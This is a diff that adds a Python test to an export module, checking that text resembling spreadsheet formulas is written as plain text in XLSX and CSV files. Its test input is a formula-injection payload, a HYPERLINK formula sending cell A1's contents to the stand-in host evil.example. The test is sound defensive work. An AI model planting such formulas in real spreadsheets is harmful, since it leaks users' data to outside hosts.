@@ -170,3 +170,22 @@ def test_the_export_command_writes_the_same_file(app, tmp_path):
     with app.app_context():
         assert db.session.scalar(sa.select(sa.func.count()).select_from(Participation)) > 0
         assert db.session.scalar(sa.select(Organisation.id).where(Organisation.scb_code == "0127"))
+
+
+def test_text_that_looks_like_a_formula_is_exported_as_text_in_xlsx_and_csv():
+    from io import BytesIO
+
+    from openpyxl import load_workbook
+
+    from modell.improvements.exports import to_csv, to_xlsx
+
+    evil = '=HYPERLINK("http://evil.example/?"&A1,"klicka")'
+    rows = [[evil, "+1", "-2", "@SUM(A1)", 12.5, "vanlig text"]]
+    book = load_workbook(BytesIO(to_xlsx(["a", "b", "c", "d", "e", "f"], rows, title="t")))
+    cells = list(book.active.iter_rows(min_row=2, values_only=False))[0]
+    assert all(c.data_type != "f" for c in cells)
+    assert (
+        cells[0].value == "'" + evil and cells[4].value == 12.5 and cells[5].value == "vanlig text"
+    )
+    text = to_csv(["a"], rows).decode("utf-8-sig")
+    assert "'=HYPERLINK" in text and ";'+1;'-2;'@SUM(A1);12,5;" in text
